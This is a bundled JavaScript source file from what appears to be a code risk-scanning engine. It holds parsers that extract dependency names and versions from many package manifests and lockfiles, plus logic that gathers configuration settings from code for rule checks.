}
/** One dependency a line: the first group is the name, the second the version. */
function* matched(text, ecosystem, pattern) {
	for (const { start, text: line } of lines(text)) {
		const found = pattern.exec(line);
		const at = found?.indices?.[1];
		if (!found?.[1] || !at) continue;
		yield {
			ecosystem,
			name: normalName(found[1].replace(/["']/g, ""), ecosystem),
			isLocked: false,
			...found[2] === void 0 ? {} : { version: found[2] },
			span: {
				start: start + at[0],
				end: start + at[1]
			}
		};
	}
}
function requirement({ start, text }) {
	const found = pythonRequirement(text);
	if (!found) return void 0;
	const at = start + text.indexOf(found.name);
	return {
		ecosystem: "pypi",
		name: normalName(found.name, "pypi"),
		isLocked: false,
		...found.version === void 0 ? {} : { version: found.version },
		span: {
			start: at,
			end: at + found.name.length
		}
	};
}
function* requirements(text) {
	for (const line of lines(text)) {
		const found = /^\s*(?:#|-)/.test(line.text) ? void 0 : requirement(line);
		if (found) yield found;
	}
}
/** What stands indented under `install_requires =` and under the extras. */
function* setupCfg(text) {
	let section = "";
	let isList = false;
	for (const line of lines(text)) {
		const key = /^([\w.-]+)\s*[=:]\s*/.exec(line.text);
		if (line.text.startsWith("[")) {
			section = line.text;
			isList = false;
		} else if (key) {
			isList = /requires$/.test(key[1] ?? "") || section.startsWith("[options.extras_require]");
			const rest = {
				start: line.start + key[0].length,
				text: line.text.slice(key[0].length)
			};
			const found = isList ? requirement(rest) : void 0;
			if (found) yield found;
		} else if (isList && /^\s+[\w]/.test(line.text)) {
			const found = requirement(line);
			if (found) yield found;
		}
	}
}
/** `axios@^1.0.0, axios@npm:1.14.1:` and, indented below, its version. */
function* yarnLock(text) {
	let entry;
	for (const { start, text: line } of lines(text)) {
		const head = /^(["']?)((?:@[^/@\s"']+\/)?[^/@\s"':]+)@([^\s"',]*)/.exec(line);
		if (head) {
			const [whole, quote = "", name = "", range = ""] = head;
			const alias = /^npm:((?:@[^/@]+\/)?[^/@]+)@/.exec(range)?.[1];
			const end = start + whole.length;
			const isClosed = quote !== "" && line.charAt(whole.length) === quote;
			entry = {
				name: alias ?? name,
				start,
				end: isClosed ? end + 1 : end
			};
			continue;
		}
		const version = /^ {2}version:? "?([^"\s]+)"?/.exec(line)?.[1];
		const resolved = /^ {2}resolution: "((?:@[^/@]+\/)?[^/@]+)@npm:/.exec(line)?.[1];
		if (!entry || version === void 0 || resolved !== void 0) continue;
		yield {
			ecosystem: "npm",
			name: normalName(entry.name, "npm"),
			version,
			isLocked: true,
			span: {
				start: entry.start,
				end: entry.end
			}
		};
		entry = void 0;
	}
}
/** Keys of `packages:`, in all versions of the format: `/axios/1.14.1:`, `/axios@1.14.1:`, `axios@1.14.1:`. */
function* pnpmLock(text) {
	let isPackages = false;
	for (const { start, text: line } of lines(text)) {
		if (/^\w/.test(line)) isPackages = line.startsWith("packages:");
		if (!isPackages) continue;
		const found = /^ {2}((["']?)\/?((?:@[^/@\s]{1,214}\/)?[^/@\s"']{1,214})[@/](\d[^\s"'():_]{0,100})[^\s"']{0,2000}\2):/.exec(line);
		if (!found) continue;
		const [, key = "", , name = "", version = ""] = found;
		yield {
			ecosystem: "npm",
			name: normalName(name, "npm"),
			version,
			isLocked: true,
			span: {
				start: start + 2,
				end: start + 2 + key.length
			}
		};
	}
}
/** `[[package]]` with name and version: Poetry, uv, PDM, Cargo. */
function* packageTables(text, ecosystem) {
	let named;
	for (const { start, text: line } of lines(text)) {
		if (line.startsWith("[")) {
			if (named) yield named;
			named = void 0;
		}
		const [, key, value = ""] = /^(name|version)\s*=\s*("[^"]*"|'[^']*')/.exec(line) ?? [];
		if (key === "name") {
			const at = start + line.indexOf(value);
			named = {
				ecosystem,
				name: normalName(value.slice(1, -1), ecosystem),
				isLocked: true,
				span: {
					start: at,
					end: at + value.length
				}
			};
		} else if (key === "version" && named) {
			yield {
				...named,
				version: value.slice(1, -1)
			};
			named = void 0;
		}
	}
	if (named) yield named;
}
// ../engine/dist/risks/packages/dependencies-json.js
function inJson(subject) {
	switch (subject.document.path.split("/").at(-1) ?? "") {
		case "package.json": return inPackageJson(subject);
		case "bun.lock": return inBunLock(subject);
		case "Pipfile.lock": return inNamedVersions(subject, "pypi", (path) => path.length === 3 && path[2] === "version" && path[0] !== "_meta");
		case "packages.lock.json": return inNamedVersions(subject, "nuget", (path) => path.length === 4 && path[3] === "resolved");
		case "composer.json": return inSections(subject, "packagist", /^require(?:-dev)?$/);
		case "composer.lock": return inComposerLock(subject);
		default: return inPackageLock(subject);
	}
}
const npmFields = /^(?:(?:dev|optional|peer|bundled|bundle)?dependencies|overrides|resolutions)$/i;
function* inPackageJson({ reading, document: { text } }) {
	for (const binding of reading.bindings) {
		const { path, value } = binding;
		const [field = "", ...rest] = path[0] === "pnpm" ? path.slice(1) : path;
		if (rest.length === 0 || !npmFields.test(field) || value.kind !== "text") continue;
		if (/^bundled?dependencies$/i.test(field)) {
			yield {
				ecosystem: "npm",
				name: normalName(value.text, "npm"),
				isLocked: false,
				span: binding.span
			};
			continue;
		}
		const alias = npmAlias(value.text);
		if (alias) {
			yield {
				ecosystem: "npm",
				...alias,
				isLocked: false,
				span: binding.span
			};
			continue;
		}
		const key = (rest.at(-1) === "." ? rest.at(-2) : rest.at(-1)) ?? "";
		const last = key.split(">").at(-1) ?? "";
		const name = /(?:^|\/)((?:@[^/@]+\/)?[^/@]+)(?:@[^/]*)?$/.exec(last)?.[1] ?? last;
		const version = value.text;
		const span = keySpan(text, key, binding);
		yield {
			ecosystem: "npm",
			name: normalName(name, "npm"),
			version,
			isLocked: false,
			span
		};
	}
}
/** `npm:axios@1.14.1` → the package that is installed under another name. */
function npmAlias(text) {
	const [, name, version] = /^npm:((?:@[^/@]{1,200}\/)?[^/@]{1,200})(?:@(.{0,200}))?$/.exec(text) ?? [];
	return name === void 0 ? void 0 : {
		name: normalName(name, "npm"),
		...version === void 0 ? {} : { version }
	};
}
/** All versions of the format: `packages` by paths in newer ones, else `dependencies` within each other. */
function* inPackageLock({ reading, document: { text } }) {
	const isNew = reading.bindings.some(({ path }) => path[0] === "packages" && path.length > 2);
	const names = /* @__PURE__ */ new Map();
	if (isNew) {
		for (const { path, value, container } of reading.bindings) if (path.length === 3 && path[0] === "packages" && path[2] === "name" && value.kind === "text") names.set(container, value.text);
	}
	for (const binding of reading.bindings) {
		const { path, value, container } = binding;
		if (path.at(-1) !== "version" || value.kind !== "text") continue;
		const key = path.at(-2) ?? "";
		if (!(isNew ? path.length === 3 && path[0] === "packages" && key.includes("node_modules/") : path.length % 2 === 1 && path[0] === "dependencies" && path.at(-3) === "dependencies")) continue;
		const alias = npmAlias(value.text);
		yield {
			ecosystem: "npm",
			name: normalName(alias?.name ?? names.get(container) ?? (isNew ? key.slice(key.lastIndexOf("node_modules/") + 13) : key), "npm"),
			version: alias?.version ?? value.text,
			isLocked: true,
			span: keySpan(text, key, binding)
		};
	}
}
function* inBunLock({ reading, document: { text } }) {
	for (const binding of reading.bindings) {
		const { path, value } = binding;
		if (path.length !== 3 || path[0] !== "packages" || path[2] !== "0" || value.kind !== "text") continue;
		const [, name, version] = /^((?:@[^/@]+\/)?[^/@]+)@(.+)$/.exec(value.text) ?? [];
		if (name === void 0 || version === void 0) continue;
		const span = keySpan(text, path[1] ?? "", binding);
		yield {
			ecosystem: "npm",
			name: normalName(name, "npm"),
			version,
			isLocked: true,
			span
		};
	}
}
function* inNamedVersions({ reading, document: { text } }, ecosystem, isOne) {
	for (const binding of reading.bindings) {
		const { path, value } = binding;
		if (!isOne(path) || value.kind !== "text") continue;
		const name = path.at(-2) ?? "";
		const version = value.text.replace(/^==/, "");
		const span = keySpan(text, name, binding);
		yield {
			ecosystem,
			name: normalName(name, ecosystem),
			version,
			isLocked: true,
			span
		};
	}
}
function* inSections({ reading, document: { text } }, ecosystem, section) {
	for (const binding of reading.bindings) {
		const { path, value } = binding;
		const [first = "", name = ""] = path;
		if (path.length !== 2 || !section.test(first) || value.kind !== "text") continue;
		const span = keySpan(text, name, binding);
		yield {
			ecosystem,
			name: normalName(name, ecosystem),
			version: value.text,
			isLocked: false,
			span
		};
	}
}
function* inComposerLock({ reading }) {
	const versions = /* @__PURE__ */ new Map();
	const isOwn = ({ path, value }, field) => path.length === 3 && /^packages(?:-dev)?$/.test(path[0] ?? "") && path[2] === field && value.kind === "text";
	for (const one of reading.bindings) if (isOwn(one, "version") && one.value.kind === "text") versions.set(one.container, one.value.text);
	for (const one of reading.bindings) {
		if (!isOwn(one, "name") || one.value.kind !== "text") continue;
		const version = versions.get(one.container);
		yield {
			ecosystem: "packagist",
			name: normalName(one.value.text, "packagist"),
			isLocked: true,
			span: one.span,
			...version === void 0 ? {} : { version }
		};
	}
}
/** Entries of one package are rarely longer than this before its version. */
const reach$5 = 2e3;
/** The name in its quotes, which stands before the value; the value where it is nowhere. */
function keySpan(text, key, { span }) {
	const from = Math.max(0, span.start - reach$5);
	const before = text.slice(from, span.start);
	for (const quote of ["\"", "'"]) {
		const at = before.lastIndexOf(quote + key + quote);
		if (at >= 0) return {
			start: from + at,
			end: from + at + key.length + 2
		};
	}
	const at = key === "" ? -1 : before.lastIndexOf(key);
	return at < 0 ? span : {
		start: from + at,
		end: from + at + key.length
	};
}
// ../engine/dist/risks/packages/dependencies-xml.js
/** Dependencies in XML: MSBuild’s projects, NuGet’s packages.config, Maven’s projects. */
function* inMsbuild(subject) {
	for (const [element, fields] of elements$1(subject, /^(?:PackageReference|PackageVersion|GlobalPackageReference|package)$/)) {
		const name = fields.get(element === "package" ? "id" : "Include") ?? fields.get("Update");
		if (!name) continue;
		const version = (fields.get("VersionOverride") ?? fields.get("Version") ?? fields.get("version"))?.text;
		yield {
			ecosystem: "nuget",
			name: normalName(name.text, "nuget"),
			isLocked: element === "package",
			span: name.span,
			...version === void 0 ? {} : { version }
		};
	}
}
function* inMavenProject(subject) {
	for (const [, fields] of elements$1(subject, /^dependency$/)) {
		const [group, artifact, version] = [
			"groupId",
			"artifactId",
			"version"
		].map((field) => fields.get(field));
		if (!group || !artifact) continue;
		yield {
			ecosystem: "maven",
			name: `${group.text}:${artifact.text}`,
			isLocked: false,
			span: artifact.span,
			...version ? { version: version.text } : {}
		};
	}
}
/** The elements of these names with their attributes and the elements in them; not those that are commented out. */
function* elements$1({ reading }, named) {
	const groups = /* @__PURE__ */ new Map();
	for (const binding of reading.bindings) if (named.test(binding.path.at(-2) ?? "")) require_gates.addToGroup(groups, binding.container, binding);
	const comments = [...reading.comments].sort((a, b) => a.start - b.start);
	let next = 0;
	for (const [at, bindings] of [...groups].sort(([a], [b]) => a - b)) {
		while (next < comments.length && comments[next].end <= at) next += 1;
		if (comments[next] && comments[next].start <= at) continue;
		const fields = /* @__PURE__ */ new Map();
		for (const { path, value, span } of bindings) if (value.kind === "text" || value.kind === "scalar") fields.set(path.at(-1) ?? "", {
			span,
			text: value.text
		});
		yield [bindings[0].path.at(-2) ?? "", fields];
	}
}
// ../engine/dist/risks/packages/dependencies-python.js
/** Lists of requirements: PEP 621, PEP 735, PDM, Hatch, uv, and what a build needs. */
const lists = /^(?:project\.(?:optional-)?dependencies|dependency-groups|tool\.pdm\.dev-dependencies|build-system\.requires|tool\.uv\.(?:dev|constraint|override)-dependencies|tool\.hatch\.envs\.[\w-]+\.(?:extra-)?dependencies)(?:\.|$)/;
/** Tables whose keys are names: Poetry, Pipenv, Cargo. */
const tables = /^(?:tool\.poetry\.(?:group\.[\w-]+\.)?(?:dev-)?dependencies|(?:dev-)?packages|(?:target\..+?\.)?(?:dev-|build-)?dependencies|workspace\.dependencies)$/;
function* inPyproject({ reading, document: { text, path: file } }) {
	const ecosystem = file.endsWith("Cargo.toml") ? "cargo" : "pypi";
	const told = /* @__PURE__ */ new Set();
	for (const binding of reading.bindings) {
		const { path, value } = binding;
		const joined = path.join(".");
		if (value.kind === "text" && ecosystem === "pypi" && lists.test(joined) && /^\d+$/.test(path.at(-1) ?? "")) {
			yield* required(binding, value.text);
			continue;
		}
		const depth = [
			1,
			2,
			3,
			4,
			5
		].find((at) => at < path.length && tables.test(path.slice(0, at).join(".")));
		if (depth === void 0) continue;
		const key = path[depth] ?? "";
		const field = path.slice(depth + 1).filter((step) => !/^\d+$/.test(step));
		if (field.length > 1 || field.length === 1 && !/^(?:version|package|git|path|extras|features)$/.test(field[0])) continue;
		const isVersion = field.length === 0 || field[0] === "version";
		const identity = path.slice(0, depth + 1).join("\0");
		if (!isVersion && told.has(identity)) continue;
		told.add(identity);
		const name = field[0] === "package" && value.kind === "text" ? value.text : key;
		yield {
			ecosystem,
			name: normalName(name, ecosystem),
			isLocked: false,
			...isVersion && value.kind === "text" && value.text !== "*" ? { version: value.text } : {},
			span: name === key ? keySpan(text, key, binding) : binding.span
		};
	}
}
function* required({ span }, text) {
	const found = pythonRequirement(text);
	if (!found) return;
	const { name, version } = found;
	yield {
		ecosystem: "pypi",
		name: normalName(name, "pypi"),
		isLocked: false,
		span,
		...version === void 0 ? {} : { version }
	};
}
const requires = /requires?$|^require(?:s|ments?)|^(?:deps|dependencies|reqs)$/i;
/** Texts in what setup() requires, and in lists that are named so. */
function* inSetupPy({ settings, document: { text } }) {
	const seen = /* @__PURE__ */ new Set();
	const texts = function* (value) {
		if (value.kind === "text" && value.pieces[0]) yield {
			start: value.pieces[0].source.start,
			text: value.text
		};
		else if (value.kind === "list") for (const item of value.items) yield* texts(item);
	};
	const heard = /* @__PURE__ */ new Set();
	for (const { path, value } of settings) {
		if (!path.some((step) => requires.test(step)) || heard.has(value)) continue;
		heard.add(value);
		for (const { start, text: requirement } of texts(value)) {
			if (seen.has(start)) continue;
			seen.add(start);
			const quoted = /["']/.test(text.charAt(start - 1)) ? 1 : 0;
			yield* required({ span: {
				start: start - quoted,
				end: start + requirement.length + quoted
			} }, requirement);
		}
	}
}
/** conda’s own packages bear the names of PyPI’s. */
function* inCondaEnvironment({ reading }) {
	for (const binding of reading.bindings) {
		const { path, value } = binding;
		if (path[0] !== "dependencies" || value.kind !== "text" || !/^\d+$/.test(path.at(-1) ?? "")) continue;
		yield* required(binding, path.includes("pip") ? value.text : value.text.replace(/^[\w-]+::/, "").replace(/^([^=<>]+)=(?!=)([^=]+).*$/, "$1==$2"));
	}
}
// ../engine/dist/risks/packages/dependencies.js
/** Readers by the file’s name; first match wins. */
const readers = [
	[/(?:^|\/)(?:package(?:-lock)?\.json|npm-shrinkwrap\.json|bun\.lock|Pipfile\.lock|composer\.(?:json|lock))$/, inJson],
	[/(?:^|\/)packages\.lock\.json$/, inJson],
	[/(?:^|\/)(?:pyproject\.toml|Pipfile|Cargo\.toml)$/, inPyproject],
	[/(?:^|\/)setup\.py$/, inSetupPy],
	[/(?:^|\/)(?:conda[\w-]*|environment[\w.-]*)\.ya?ml$/, inCondaEnvironment],
	[/(?:\.(?:cs|fs|vb)proj|(?:^|\/)(?:packages\.config|Directory\.(?:Packages|Build)\.props))$/, inMsbuild],
	[/(?:^|\/)pom\.xml$/, inMavenProject]
];
/** Whether the packages of such a file are told by its lines alone, without a reading. */
function isReadByLines(path) {
	return !readers.some(([file]) => file.test(path)) && linesOf(path) !== void 0;
}
function dependenciesOf(subject) {
	const { path, text } = subject.document;
	const reader = readers.find(([file]) => file.test(path));
	if (reader) return reader[1](subject);
	const lines = linesOf(path);
	return lines ? lines(text) : [];
}
// ../engine/dist/risks/subject.js
/** Document → Subject: everything that it says, with settings by what they are called. */
/** Other lists of dependencies are read whole. */
const everything = /\w/g;
/** What a setup.py may call its lists of dependencies. */
const ofSetup = /requir|dep(?:s|endencies)\b|reqs|setup/gi;
/** Of what no rule wants read. */
function unreadOf({ path, text }) {
	return {
		language: languageOf(path, text),
		imports: [],
		bindings: [],
		calls: [],
		comments: []
	};
}
/** @param chance what the rules may find in its text */
function subjectOf(document, chance, parsed) {
	const { text } = document;
	const words = wordsOf$1(document, chance);
	const reading = inEffect(words ? read(document, forRisks(words), parsed) : unreadOf(document));
	const looked = reading.language in languages || /\{\{/.test(text) ? lookupBindings(text, reading.comments, reading.bindings) : [];
	const settings = [
		...reading.bindings,
		...ownBindings(reading, document),
		...looked
	].filter((one) => !isCompared(one, text) && !isMade$1(one, text) && !isTold(one, text) && !isFlag(one) && !isNegated(one, text) && !isOfType(one, reading, text)).map((one) => settingOf(withDefault(placed(reading.language === "shell" ? spoken$1(one, text) : one, text), text)));
	const holderOf = holdersIn(reading);
	/** What a name stands for that is given the default of a look-up. */
	const otherwise = /* @__PURE__ */ new Map();
	for (const call of reading.calls) {
		for (const argument of call.args) if (argument.via !== "entry" || !isCompared(argument, text)) settings.push(argumentOf(argument, call, text));
		for (const named of namedByArguments(call)) settings.push(named);
		const ifUnset = defaultOfLookup(call);
		const ofField = defaultOf(call);
		const alias = ifUnset ?? (ofField?.value.kind === "text" ? ofField : void 0);
		if (alias) for (const one of lookedUp(call, alias)) settings.push(settingOf(one));
		const held = wrapped(call) ?? ofField ?? (ifUnset?.value.kind === "text" ? ifUnset : void 0);
		const holder = held && holderOf(call);
		if (!holder) continue;
		settings.push(settingOf({
			...holder,
			value: held.value,
			span: held.span
		}, holder.call));
		if (held === ifUnset && holder.via === "assign") otherwise.set(holder.path.at(-1) ?? "", held);
	}
	if (otherwise.size > 0) for (const followed of settings.flatMap((one) => followedIn(one, otherwise))) settings.push(followed);
	const named = new Set(settings.map(({ name }) => name));
	for (const inText of settings.flatMap((one) => namedInText(one, text))) if (!named.has(inText.name)) settings.push(inText);
	return {
		document,
		reading,
		settings,
		isProse: isProse(reading, document.path)
	};
}
/** Formats of texts for people that have no reader of their own. */
const forPeople = /\.(?:tex|eml|pot?|strings|srt|vtt|rtf|diff|patch|[1-8])$/i;
/** A file of an unknown format holds settings, such as of Jsonnet and CUE; one without an extension may be a licence. */
function isProse({ language }, path) {
	if (language !== "text") return language === "markdown" && !require_gates.dependencyFile.test(path);
	return (!/[^/]\.\w{1,12}$/.test(path) || forPeople.test(path)) && !require_gates.dependencyFile.test(path);
}
/** Readers of lines read what is commented out too: a key there has leaked, a setting there is off. */
function inEffect(reading) {
	const { language, bindings, comments } = reading;
	if (!/^(?:env|ini|properties)$/.test(language) || comments.length === 0) return reading;
	return {
		...reading,
		bindings: bindings.filter(({ span }) => !isWithin(comments, span.start))
	};
}
function isWithin(comments, at) {
	const before = countBefore(comments.length, (i) => comments[i].start <= at);
	return before > 0 && at < comments[before - 1].end;
}
/** `@Value("${binance.base-url:…}")` says of itself what it sets. */
function argumentOf(argument, call, text) {
	const given = withDefault(argument, text);
	return given.path === argument.path ? settingOf(given, call) : settingOf({
		...given,
		via: "assign"
	});
}
/** A name that stands for the default of a look-up: `Spot(key, secret, base_url=BASE)`. */
function followedIn(one, otherwise) {
	const held = one.value.kind === "ref" ? otherwise.get(one.value.path.at(-1) ?? "") : void 0;
	return held && held.span.start !== one.span.start ? [{
		...one,
		value: held.value,
		span: held.span
	}] : [];
}
/** What the readers of code do not see as names and values. */
function ownBindings({ language, comments, bindings }, { text, path: file }) {
	const own = unread(language, text, comments, file);
	if (own.length === 0) return own;
	const placeOf = ({ span, path }) => `${String(span.start)} ${path.at(-1) ?? ""}`;
	const known = new Set(bindings.flatMap((one) => [
		-1,
		0,
		1
	].map((more) => placeOf({
		...one,
		span: {
			...one.span,
			start: one.span.start + more
		}
	}))));
	return own.filter((one) => !known.has(placeOf(one)));
}
function unread(language, text, comments, file) {
	switch (language) {
		case "semicolon": return keywordBindings(text);
		case "csharp": return [...propertyBindings(text), ...pairBindings(text)];
		case "c": return [...pairBindings(text), ...defineBindings(text)];
		case "ruby": return macroBindings(text);
		case "powershell": return powershellBindings(text);
		case "shell": return [
			...flagBindings(text, comments),
			...variableBindings(text, comments),
			...shellBindings(text).filter(({ span }) => !isWithin(comments, span.start)),
			.../dockerfile|containerfile/i.test(file) ? dockerBindings(text) : []
		];
		case "hash":
			if (/\.(?:tf|tofu|hcl|nomad)$/.test(file)) return namedValueBindings(text, comments);
			return /\.exs?$/.test(file) ? attributeBindings(text) : [];
		default: return [];
	}
}
/** A word of a shell is a text, also without quotes: `RESTRICT=no`. */
function spoken$1(binding, text) {
	const { value, span, via } = binding;
	if (value.kind !== "ref" || via !== "assign" || !/[=\s]/.test(text.charAt(span.start - 1))) return binding;
	bareWord.lastIndex = span.start;
	const word = bareWord.exec(text)?.[0];
	if (word === void 0 || /^[$(]/.test(word)) return binding;
	const end = span.start + word.length;
	const pieces = [{
		text: {
			start: 0,
			end: word.length
		},
		source: {
			start: span.start,
			end
		}
	}];
	return {
		...binding,
		span: {
			start: span.start,
			end
		},
		value: {
			kind: "text",
			text: word,
			pieces
		}
	};
}
const bareWord = /[^\s;&|"'`<>\\()]{1,400}/y;
/** `!0` and `!value` are the contrary of what stands there. */
function isNegated({ value, span }, text) {
	return value.kind === "scalar" && /[:=,(\s]!$/.test(text.slice(span.start - 2, span.start));
}
/** `"--trusted-ips=…"` in a list of arguments is read as the entry that it is: see namedInText. */
function isFlag({ path, via }) {
	return via === "assign" && /^--/.test(path.at(-1) ?? "");
}
/** `'enableWithdrawals: true is dangerous'`: a sentence in a string sets nothing. */
function isTold({ value, span, container }, text) {
	if (container === 0 || !/["'`]/.test(text.charAt(container - 1))) return false;
	if (value.kind !== "text" && /^[ \t]+[A-Za-z]+[ \t]+\w/.test(text.slice(span.end, span.end + 60))) return true;
	return text.charAt(span.end) === text.charAt(container - 1) && isMessage(text, container);
}
/** `log.Fatal("`, `panic!("`, `throw new Error("`, `msg = "`: what stands before a text that tells. */
const tellers = /(?:\b(?:\w{0,30}(?:panic|fatal|print\w{0,3}|echo|puts|error\w?|exception|warn(?:ing)?\w?|logger|log|debug\w?|info\w?|trace|abort|die|bail|anyhow|assert\w{0,20}|unreachable|alert|notify)!?)\s{0,2}\(\s{0,40}|\b(?:raise|throw|die)\s{1,4}|\b\w{0,30}(?:msg|message|error|err|reason|title|label|description|desc|help|hint|warning|note|summary|detail)["']?\s{0,4}(?::\s{0,2}(?:str|string|String|&str)\s{0,4}=|:?=|:)\s{0,4})[a-zA-Z@$]{0,2}["'`]$/i;
/** Whether the text that begins at the offset, behind its quote, is a message. */
function isMessage(text, at) {
	return tellers.test(text.slice(Math.max(0, at - 120), at));
}
const typeHead = /\b(?:interface\s+\w{1,80}(?:<[^<>{}]{0,80}>)?(?:\s+extends\s+[^{}]{1,200})?|type\s+\w{1,80}(?:<[^<>{}]{0,80}>)?\s*=[^;{}=]{0,80})\s*$/;
/** `interface P { enableWithdrawals: true }` says which values there may be. */
function isOfType({ via, container }, { language }, text) {
	if (via !== "entry" || language !== "javascript" || text.charAt(container) !== "{") return false;
	const head = text.slice(Math.max(0, container - 300), container);
	return typeHead.test(head.slice(Math.max(0, head.lastIndexOf("}") + 1)));
}
/** `URL(string: "…")`, `new Uri("…")`, `Url::parse("…")`: the text is what the name stands for. */
function wrapped({ callee, args }) {
	const [only] = args;
	if (args.length !== 1 || only?.value.kind !== "text" || only.path.length !== 1) return void 0;
	return /^(?:\w+\.)?(?:ur[il]|string)(?:\.(?:parse|create|from|new|of|init))?$/i.test(callee.slice(-2).join(".")) ? only : void 0;
}
/** `enable_withdrawals: bool = Field(True, …)`: what a field has when nobody says otherwise. */
function defaultOf({ callee, args }) {
	if (!/^(?:Field|field)$/.test(callee.at(-1) ?? "")) return void 0;
	return args.find(({ path }) => path.length === 1 && (path[0] === "0" || path[0] === "default"));
}
const keyPath = /\/(?:subAccountApi|apiKey|key)(?:\/\w{1,20})?["'`]/gi;
const mostNames$3 = 10;
/** The words, and the names that stand for the path of an endpoint: a request may say nothing else. */
function withNames({ words, rules }, text) {
	if (!rules.has("unsafe-key-creation")) return words;
	const names = /* @__PURE__ */ new Set();
	let isNamed = false;
	for (const { index } of text.matchAll(keyPath)) {
		isNamed = true;
		const name = nameBefore$1(text, index);
		if (name !== void 0 && name.length > 2) names.add(name);
		if (names.size >= mostNames$3) break;
	}
	const more = [...names].map((name) => `\\b${name}\\b`);
	return isNamed ? new RegExp([
		words.source,
		`["']status["']`,
		...more
	].join("|"), "gi") : words;
}
/** What to look for; undefined where no rule needs a reading. */
function wordsOf$1({ path, text }, chance) {
	const words = chance && withNames(chance, text);
	if (!require_gates.dependencyFile.test(path) || isReadByLines(path)) return words;
	if (!path.endsWith("setup.py")) return everything;
	return words ? new RegExp(`${words.source}|${ofSetup.source}`, "gi") : ofSetup;
}
/** `z.boolean().default(true)`: the value that a call makes is known only when it runs. */
function isMade$1({ value, span }, text) {
	return value.kind === "scalar" && span.end - span.start > value.text.length + 2 && text.slice(span.start, span.end).includes("(");
}
/** Of SQL and the shell, which compare with one sign. */
const condition = /\b(?:where|and|having|when)\b|\b(?:if|elif|while|until|test)\b.*\[|^\s*\[{1,2}\s|^\s*(?:export\s+)?type\s/i;
const asserting = /^\s{0,80}(?:assert\w*|expect|case|raise|throw)\b(?!\s*[:=])/;
/** `if (key.canTrade === true)`: what is compared is not set. */
function isCompared({ via, span, container }, text) {
	if (/[=!<>]=\s*$/.test(text.slice(Math.max(0, span.start - 6), span.start))) return true;
	const line = text.slice(require_worth_reading.lineStart(text, span.start, 200), span.start);
	if (asserting.test(line)) return true;
	if (via === "entry" && /[=!]=\s{0,9}%?$/.test(text.slice(Math.max(0, container - 12), container))) return true;
	if (/^[^\n{}]{0,200}\}\s{0,9}=(?![=>~])/.test(text.slice(span.end, span.end + 220))) return true;
	if (/^[^\n{}]{0,200}\}[^\n{},]{0,40}=>/.test(text.slice(span.end, span.end + 300))) return true;
	if (/\bis\s+(?:not\s+)?(?:\w+\s*)?\{[^{}\n]*$/.test(text.slice(require_worth_reading.lineStart(text, span.start, 200), span.start))) return true;
	if (via !== "assign") return false;
	return condition.test(text.slice(require_worth_reading.lineStart(text, span.start, 200), span.start));
}
/** Of `NAME=value` in a list the value’s own place. */
function placed(binding, text) {
	const { value, span } = binding;
	if (value.kind !== "text" || value.text === "" || !/^["']?[\w.-]{1,80}=/.test(text.slice(span.start, span.end))) return binding;
	const own = require_worth_reading.sourceSpan(value, {
		start: 0,
		end: value.text.length
	});
	return own.start > span.start && own.end <= span.end ? {
		...binding,
		span: own
	} : binding;
}
function settingOf(binding, call) {
	if (binding.path.length === 1 && /^\d*$/.test(binding.path[0])) return {
		...binding,
		name: "",
		...call && { call }
	};
	const step = binding.path.findLast((one) => !/^\d*$/.test(one)) ?? "";
	if (step === "default" && binding.via === "assign" && binding.path.length > 1) return {
		...binding,
		name: folded(binding.path.at(-2)),
		path: binding.path.slice(0, -1)
	};
	const { value, path } = binding;
	if (value.kind === "text" && path.length > 1 && ifNotSet.test(step) && step === path.at(-1) && /^https?:/.test(value.text)) return {
		...binding,
		name: folded(path.findLast((one, at) => at < path.length - 1 && !/^\d*$/.test(one)) ?? ""),
		path: path.slice(0, -1),
		...call && { call }
	};
	return {
		...binding,
		name: folded(step),
		...call && { call }
	};
}
const ifNotSet = /^(?:default(?:_?value)?|value|fallback)$/i;
const pairing = /^(?:of|ofEntries|entry|put|set|setProperty|set_property|hash|dict|array|add|with|insert|setdefault|define|option|setenv)$/i;
const adding = /^(?:add|append|push|insert|push_?back)$/i;
/** Steps of builders that are given several. */
const listing = /ips?$|list$|(?:permission|right|scope)s?$/i;
const setting$1 = /^(?:set|with|put)_?(?=[A-Z_a-z])/;
const identifier = /^[A-Za-z][\w.-]{1,60}$/;
/** `Map.of("withdraw", true)`, `config.set("key.withdraw", true)`, `setWithdraw(true)`, `.withdraw(true)`: names that are no names of the language. */
function namedByArguments(call) {
	const { callee, args } = call;
	const last = callee.at(-1) ?? "";
	const flag = isOption.test(last) ? defaultOfFlag(call) : void 0;
	if (flag) return [flag];
	if (args.filter(({ path }) => path.length === 1 && /^\d+$/.test(path[0])).length !== args.length) return pairsIn$1(call).map((one) => settingOf(one, call));
	const [only] = args;
	if (args.length === 1 && only && adding.test(last) && callee.length > 2 && listing.test(callee.at(-2))) return [settingOf({
		...only,
		path: [...callee.slice(0, -1), "0"]
	}, call)];
	if (args.length === 1 && only && last !== "set") {
		if (setting$1.test(last)) return [settingOf({
			...only,
			path: [last.replace(setting$1, "")]
		}, call)];
		if (callee.length > 1 && !pairing.test(last)) return [settingOf({
			...only,
			path: [last]
		}, call)];
	}
	if (callee.length > 1 && listing.test(last) && args.length > 1) return args.map((one, order) => settingOf({
		...one,
		path: [last, String(order)]
	}, call));
	if (!pairing.test(last)) return [];
	return args.flatMap(({ value }, index) => {
		const next = args[index + 1];
		if (index % 2 > 0 || !next || value.kind !== "text" || !identifier.test(value.text)) return [];
		return [settingOf({
			...next,
			path: value.text.split(".")
		}, call)];
	});
}
const isOption = /^(?:add_?argument|add_?option|option|bool(?:var)?)$/i;
/** `add_argument('--allow-withdrawals', default=True)`, `flag.Bool("allow-withdrawals", true, …)`: off by itself, on where it says so. */
function defaultOfFlag(call) {
	const named = call.args.find(({ value }) => value.kind === "text" && /^-{0,2}[A-Za-z][\w-]{2,60}$/.test(value.text));
	const given = call.args.find(({ path, value }) => value.kind === "scalar" && /^true$/i.test(value.text) && /^(?:default|\d)$/.test(path.at(-1) ?? ""));
	if (named?.value.kind !== "text" || !given) return void 0;
	return settingOf({
		...given,
		path: [named.value.text.replace(/^-+/, "")]
	}, call);
}
/** `--enable-withdrawals=true`, `Environment="WITHDRAW=yes"`: an entry that is a text of its own. */
const entryInText = /^-{0,2}([A-Za-z][\w.-]{1,60})=(?!=)/;
/** Aliases may give a long text to many names. */
const longestEntry$1 = 4e3;
function namedInText(given, text) {
	const { value, path, span } = given;
	const match = value.kind === "text" && value.text.length <= longestEntry$1 ? entryInText.exec(value.text) : null;
	if (value.kind !== "text" || !match || value.text.includes("\n")) return [];
	const part = require_worth_reading.slice(value, {
		start: match[0].length,
		end: value.text.length
	});
